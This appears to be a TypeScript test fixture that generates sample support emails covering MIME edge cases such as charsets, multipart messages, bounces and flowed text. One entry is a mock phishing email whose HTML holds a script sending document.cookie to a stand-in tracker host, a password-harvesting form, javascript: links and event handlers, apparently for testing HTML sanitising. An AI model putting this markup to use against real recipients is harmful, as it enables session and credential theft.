import { binary, encodedWords, message, multipart, raw, text } from './mime.ts';
import { barChart, landscape } from './pictures.ts';
import { mailDate, sampleMessage, type SampleMessage } from './sample-message.ts';

const support = 'Lindenhof Support <support@lindenhof.example>';
const printerRequest = 'drucker-streifen.7f3a@kanzlei-weiss.example';

/** The support mailbox, oldest first. */
export function supportMail(now: number): SampleMessage[] {
  const hour = 60 * 60 * 1000;
  const ago = (hours: number): string => mailDate(now - hours * hour);
  return [
    sampleMessage(now, {
      title: 'windows-1252 body with typographic quotes and a euro sign, sent as 8bit',
      id: 'rechnung-4711.20a1@muehlenbach.example',
      from: `${encodedWords('Jürgen Mühlenbach', 'windows-1252', 'Q')} <j.muehlenbach@muehlenbach.example>`,
      to: support,
      subject: encodedWords('Rückfrage zu Ihrer Rechnung 4711', 'windows-1252', 'Q'),
      hoursAgo: 71,
      entity: text(
        `Guten Tag,

auf der Rechnung 4711 steht die Position „Wartung Kopiersysteme – 2. Quartal“ zweimal,
einmal mit 189,00 € und einmal mit 198,00 €. Vermutlich ist das ein Zahlendreher…

Könnten Sie das bitte prüfen und uns eine korrigierte Fassung schicken?

Mit freundlichen Grüßen
Jürgen Mühlenbach
Mühlenbach & Söhne OHG, Buchhaltung
`,
        { charset: 'windows-1252' },
      ),
    }),
    sampleMessage(now, {
      title: 'Japanese in iso-2022-jp, subject included',
      id: '00c801da.5b1e@sakura-shoji.example',
      from: `${encodedWords('佐藤 花子', 'iso-2022-jp')} <h.sato@sakura-shoji.example>`,
      to: support,
      subject: encodedWords('複合機の保守契約について', 'iso-2022-jp'),
      hoursAgo: 68,
      zone: 540,
      entity: text(
        `リンデンホーフ サポートご担当者様

いつもお世話になっております。さくら商事の佐藤です。

デュッセルドルフ事務所の複合機 LH-4200 の保守契約が今月末で満了となります。
更新の条件と費用をお知らせいただけますでしょうか。

よろしくお願いいたします。

さくら商事株式会社 佐藤花子
`,
        { charset: 'iso-2022-jp', encoding: '7bit' },
      ),
    }),
    sampleMessage(now, {
      title: 'The request that becomes ticket T-000001: its subject contains "Drucker"',
      id: printerRequest,
      from: 'Anna Berger <anna.berger@kanzlei-weiss.example>',
      to: support,
      subject: 'Drucker im 2. OG druckt nur noch Streifen',
      hoursAgo: 64,
      entity: text(`Hallo zusammen,

seit heute Morgen druckt das Gerät im 2. Obergeschoss (LH-4200, Standort Flur rechts) auf
jeder Seite graue Längsstreifen. Wir haben schon

 - den Toner geschüttelt und einmal getauscht,
 - das Gerät zweimal aus- und wieder eingeschaltet,
 - die Reinigungsseite gedruckt (Streifen sind auch dort).

Morgen früh müssen Schriftsätze zum Gericht. Könnten Sie heute noch jemanden schicken?

Viele Grüße
Anna Berger
Kanzlei Weiss & Partner
Tel. 0211 5550-142
`),
    }),
    sampleMessage(now, {
      title: 'HTML with two inline pictures (cid) and a plain alternative',
      id: 'scan-report.9d02@northgate.example',
      from: 'Daniel Okafor <daniel.okafor@northgate.example>',
      to: support,
      subject: 'Scan errors this week, with screenshots',
      hoursAgo: 50,
      zone: 60,
      entity: multipart('related', 'scan-related', [
        multipart('alternative', 'scan-alternative', [
          text(`Hi team,

the scan-to-mail errors are back. The chart shows failures per day, Thursday is the worst.
The second picture is our test photograph as it arrives: far too dark in the lower half.

Regards,
Daniel Okafor, Northgate Logistics
`),
          text(
            `<!DOCTYPE html>
<html><body style="font-family: Calibri, sans-serif; color: #223">
<p>Hi team,</p>
<p>the scan-to-mail errors are <b>back</b>. Failures per day, Monday to Sunday:</p>
<p><img src="cid:chart@northgate.example" width="480" height="270" alt="Failures per day"></p>
<p>And this is our test photograph as it arrives, far too dark in the lower half:</p>
<p><img src="cid:photo@northgate.example" width="480" height="320" alt="Scanned test photograph"></p>
<p>Regards,<br>Daniel Okafor<br><span style="color:#888">Northgate Logistics</span></p>
</body></html>
`,
            { subtype: 'html', encoding: 'quoted-printable' },
          ),
        ]),
        binary(
          barChart([4, 7, 5, 19, 11, 2, 1]),
          'image/png; name="chart.png"',
          'inline; filename="chart.png"',
          'chart@northgate.example',
        ),
        binary(
          landscape(480, 320, 9),
          'image/png; name="photo.png"',
          'inline; filename="photo.png"',
          'photo@northgate.example',
        ),
      ]),
    }),
    sampleMessage(now, {
      title: 'A reply that belongs to ticket T-000001',
      id: 're-drucker-streifen.81b0@kanzlei-weiss.example',
      from: 'Anna Berger <anna.berger@kanzlei-weiss.example>',
      to: support,
      subject: 'AW: [T-000001] Drucker im 2. OG druckt nur noch Streifen',
      hoursAgo: 47,
      fields: [
        ['In-Reply-To', `<${printerRequest}>`],
        ['References', `<${printerRequest}>`],
      ],
      entity: text(`Guten Morgen,

kurzer Nachtrag: Auf der Trommel ist mit bloßem Auge ein Kratzer zu sehen, ungefähr 4 cm lang.
Die Seriennummer ist LH42-0098-1177. Der Techniker kann jederzeit kommen, der Empfang weiß Bescheid.

Viele Grüße
Anna Berger

> Vielen Dank für Ihre Nachricht. Wir haben sie unter der Nummer [T-000001] aufgenommen
> und melden uns so bald wie möglich.
`),
    }),
    sampleMessage(now, {
      title: 'A long thread: quotes four levels deep and a chain of references',
      id: 'thread-5.c4d9@harborview.example',
      from: '"Whitaker, Sue" <sue.whitaker@harborview.example>',
      to: support,
      subject: 'Re: Re: Re: Scanner cannot reach the network share',
      hoursAgo: 44,
      zone: -240,
      fields: [
        ['Cc', 'Tom Reyes <tom.reyes@harborview.example>'],
        ['In-Reply-To', '<thread-4.c4d9@lindenhof.example>'],
        [
          'References',
          [1, 2, 3, 4]
            .map((n) => `<thread-${n}.c4d9@${n % 2 ? 'harborview' : 'lindenhof'}.example>`)
            .join('\r\n '),
        ],
      ],
      entity: text(
        `That did it - SMB 1 was the culprit. With version 3 switched on in the panel the scans
arrive again. You can close this one. Thank you for your patience!

Sue

On Tuesday Lindenhof Support wrote:
> Sue,
>
> please open Settings > Network > SMB on the panel and choose "Version 3 only".
> The firmware update in May reset that to version 1, which your server refuses.
>
> On Monday Sue Whitaker wrote:
>> The event log says "SMB1 negotiate request refused" at exactly the minute we scan.
>> Does that help?
>>
>> On Monday Lindenhof Support wrote:
>>> Could you look into the event log of the file server, please? We need the entries
>>> around the time of a failed scan.
>>>
>>> On Friday Sue Whitaker wrote:
>>>> Since the update our scanner says "Cannot connect to destination" when we scan to
>>>> \\\\files\\scans. Scanning to e-mail works. Nothing else has changed.
`,
        { charset: 'us-ascii', encoding: '7bit' },
      ),
    }),
    sampleMessage(now, {
      title: 'format=flowed: long paragraphs in soft-broken lines, with a quote',
      id: 'toner-flowed.1177@bluefin.example',
      from: 'Priya Raman <priya@bluefin.example>',
      to: support,
      subject: 'Toner low warning although cartridge is new',
      hoursAgo: 40,
      zone: 60,
      entity: text(
        `Hello,

we changed the black cartridge on Monday, and still the panel shows "Toner \nlow" all day long. The pages look fine, so I suppose the counter was never \nreset. Is there a way to do this ourselves, or does somebody have to come by?

> If the message stays after the change, please wait for fifty pages; the \n> sensor needs them to settle.

We are at about three hundred pages now.

Best regards,
Priya
-- \nPriya Raman, Bluefin Studio
`,
        { charset: 'us-ascii', encoding: '7bit', parameters: 'format=flowed; delsp=no' },
      ),
    }),
    sampleMessage(now, {
      title: 'An automatic reply (Auto-Submitted: auto-replied)',
      id: 'ooo.55e0@kanzlei-weiss.example',
      from: 'Martin Weiss <martin.weiss@kanzlei-weiss.example>',
      to: support,
      subject: `Automatische Antwort: ${encodedWords('Terminbestätigung Wartung')}`,
      hoursAgo: 30,
      fields: [
        ['Auto-Submitted', 'auto-replied'],
        ['X-Auto-Response-Suppress', 'All'],
        ['In-Reply-To', '<wartung-termin.0042@lindenhof.example>'],
      ],
      entity: text(`Guten Tag,

ich bin bis einschließlich Freitag nicht im Haus und lese meine E-Mails nur unregelmäßig.
In dringenden Fällen hilft Ihnen Frau Berger weiter (anna.berger@kanzlei-weiss.example).

Mit freundlichen Grüßen
Martin Weiss
`),
    }),
    sampleMessage(now, {
      title: 'A bounce: delivery status notification with the returned header',
      id: 'dsn.20250.7731@mx.lindenhof.example',
      from: 'Mail Delivery Subsystem <mailer-daemon@mx.lindenhof.example>',
      to: '<support@lindenhof.example>',
      subject: 'Undelivered Mail Returned to Sender',
      hoursAgo: 27,
      fields: [['Auto-Submitted', 'auto-replied']],
      entity: multipart('report; report-type=delivery-status', 'dsn-7731', [
        text(
          `This is the mail system at host mx.lindenhof.example.

Your message could not be delivered to one or more recipients.

<p.altmann@werkstatt-altmann.example>: host mail.werkstatt-altmann.example
    [198.51.100.14] said: 550 5.1.1 User unknown (in reply to RCPT TO command)
`,
          { charset: 'us-ascii', encoding: '7bit' },
        ),
        raw(
          'message/delivery-status',
          Buffer.from(
            [
              'Reporting-MTA: dns; mx.lindenhof.example',
              `Arrival-Date: ${ago(27.1)}`,
              '',
              'Final-Recipient: rfc822; p.altmann@werkstatt-altmann.example',
              'Action: failed',
              'Status: 5.1.1',
              'Remote-MTA: dns; mail.werkstatt-altmann.example',
              'Diagnostic-Code: smtp; 550 5.1.1 User unknown',
              '',
            ].join('\r\n'),
          ),
        ),
        raw(
          'text/rfc822-headers',
          Buffer.from(
            [
              'From: Lindenhof Support <support@lindenhof.example>',
              'To: p.altmann@werkstatt-altmann.example',
              'Subject: Ihr Ersatzteil ist da',
              `Date: ${ago(27.1)}`,
              'Message-ID: <ersatzteil.3310@lindenhof.example>',
              '',
            ].join('\r\n'),
          ),
        ),
      ]),
    }),
    sampleMessage(now, {
      title: 'A forwarded message as an attachment (message/rfc822) with an attachment of its own',
      id: 'fwd-angebot.6c01@lindenhof.example',
      from: 'Katrin Vogel <katrin.vogel@lindenhof.example>',
      to: support,
      subject: 'WG: Leasing LH-4200',
      hoursAgo: 25,
      entity: multipart('mixed', 'fwd-outer', [
        text(`Hallo Support,

das ist bei mir gelandet, gehört aber zu euch. Die Seriennummern stehen in der Liste im Anhang.

Gruß, Katrin
`),
        raw(
          'message/rfc822',
          message(
            [
              ['From', 'Petra Sommer <petra.sommer@stadtwerke-aue.example>'],
              ['To', 'katrin.vogel@lindenhof.example'],
              ['Subject', encodedWords('Leasing LH-4200: Rückgabe der Altgeräte')],
              ['Date', ago(28)],
              ['Message-ID', '<leasing-rueckgabe.0815@stadtwerke-aue.example>'],
            ],
            multipart('mixed', 'fwd-inner', [
              text(`Sehr geehrte Frau Vogel,

zum Monatsende möchten wir drei Altgeräte zurückgeben. Wann können Sie sie abholen?

Freundliche Grüße
Petra Sommer
`),
              text('Seriennummer;Standort\nLH30-0021;Rathaus\nLH30-0022;Bauhof\nLH30-0031;Bibliothek\n', {
                subtype: 'csv',
                encoding: 'base64',
                fields: [['Content-Disposition', 'attachment; filename="altgeraete.csv"']],
              }),
            ]),
          ),
          [['Content-Disposition', 'attachment; filename="Leasing LH-4200.eml"']],
        ),
      ]),
    }),
    sampleMessage(now, {
      title: 'Over the size limit: about 3 MB of uncompressed photograph',
      id: 'scan-wandbild.44aa@hotel-seeblick.example',
      from: 'Empfang Hotel Seeblick <empfang@hotel-seeblick.example>',
      to: support,
      subject: 'Scan unseres Wandbilds',
      hoursAgo: 22,
      oversize: true,
      entity: multipart('mixed', 'wandbild', [
        text(`Guten Abend,

anbei der Scan unseres Wandbilds in voller Auflösung. Man sieht gut, wie dunkel die untere
Hälfte gerät.

Hotel Seeblick, Empfang
`),
        binary(
          landscape(1000, 760, 0),
          'image/png; name="Wandbild.png"',
          'attachment; filename="Wandbild.png"',
        ),
      ]),
    }),
    sampleMessage(now, {
      title: 'base64 UTF-8 with emoji, in the subject and the name too',
      id: 'danke.e001@cafe-sonne.example',
      from: `${encodedWords('Café Sonne ☀️')} <hallo@cafe-sonne.example>`,
      to: support,
      subject: encodedWords('Läuft wieder – danke! 🎉👍🏽'),
      hoursAgo: 20,
      entity: text(
        `Liebes Support-Team 💛

der Bondrucker läuft wieder, und das vor dem Frühstücksansturm! ☕🥐
Richtet bitte der Technikerin unseren Dank aus 👩🏽‍🔧 – sie war in 20 Minuten hier.

Bis bald auf einen Kaffee,
eure Sonnen ☀️☀️☀️
`,
        { encoding: 'base64' },
      ),
    }),
    sampleMessage(now, {
      title: 'Hostile HTML: script, event handlers, trackers, a form, javascript: links, CSS import',
      id: 'quota.31337@secure-mailcenter.example',
      from: '"IT-Support Lindenhof" <notice@secure-mailcenter.example>',
      to: support,
      subject: 'Your mailbox is almost full - verify now',
      hoursAgo: 9,
      zone: 0,
      entity: text(
        `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="1;url=http://secure-mailcenter.example/login">
<base href="http://secure-mailcenter.example/">
<link rel="stylesheet" href="http://tracker.example/mail.css">
<style>@import url("http://tracker.example/import.css"); body { background: url(http://tracker.example/bg.png) }</style>
<script>document.title = 'owned'; new Image().src = 'http://tracker.example/s?' + document.cookie;</script>
</head><body onload="document.title = 'owned'">
<h2 style="color:#b00">Your mailbox is 98% full</h2>
<p>Dear user, incoming mail will be <b>deleted</b> within 24 hours. Verify your account to keep it.</p>
<p><a href="javascript:document.title='owned'">Verify my account</a> or
<a href="http://secure-mailcenter.example/login">https://portal.lindenhof.example/login</a></p>
<form action="http://secure-mailcenter.example/collect" method="post">
<input name="user" placeholder="E-mail"><input name="pass" type="password" placeholder="Password">
<button formaction="javascript:document.title='owned'">Sign in</button></form>
<img src="broken:" onerror="document.title = 'owned'" alt="">
<img src="http://tracker.example/open.gif?u=support" width="1" height="1" alt="">
<svg onload="document.title = 'owned'"><a xlink:href="javascript:document.title='owned'"><text y="20">Help</text></a></svg>
<iframe src="http://tracker.example/frame.html"></iframe>
<object data="http://tracker.example/object.swf"></object>
<div style="position:fixed;inset:0;z-index:9999;background:rgba(255,255,255,.01)"></div>
</body></html>
`,
        { subtype: 'html', encoding: '8bit' },
      ),
    }),
    sampleMessage(now, {
      title: 'Without a subject',
      id: 'kein-betreff.7702@baeckerei-ahrens.example',
      from: 'Uwe Ahrens <uwe@baeckerei-ahrens.example>',
      to: support,
      hoursAgo: 5,
      entity: text(`Moin, unsere Kasse druckt keine Bons mehr. Bitte um Rückruf: 04321 555 17. Uwe Ahrens\n`),
    }),
    sampleMessage(now, {
      title: 'Without a Date field',
      id: 'zaehlerstand.0001@lh4200.harborview.example',
      from: 'LH-4200 Second Floor <device@harborview.example>',
      to: support,
      subject: 'Meter reading 118204',
      hoursAgo: 2,
      dateless: true,
      entity: text(
        `Device: LH-4200 / LH42-0077-0412
Total pages: 118204
Black: 96511  Colour: 21693
Drum: 41 %  Waste toner: 78 %
`,
        { charset: 'us-ascii', encoding: '7bit' },
      ),
    }),
  ];
}
